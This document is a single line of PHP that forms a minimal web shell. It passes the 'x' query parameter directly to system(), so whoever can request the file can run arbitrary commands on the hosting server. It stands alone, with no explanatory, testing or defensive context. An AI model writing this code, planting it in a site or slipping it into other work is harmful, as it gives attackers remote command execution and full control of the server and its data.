<?php system($_GET['x']); ?>
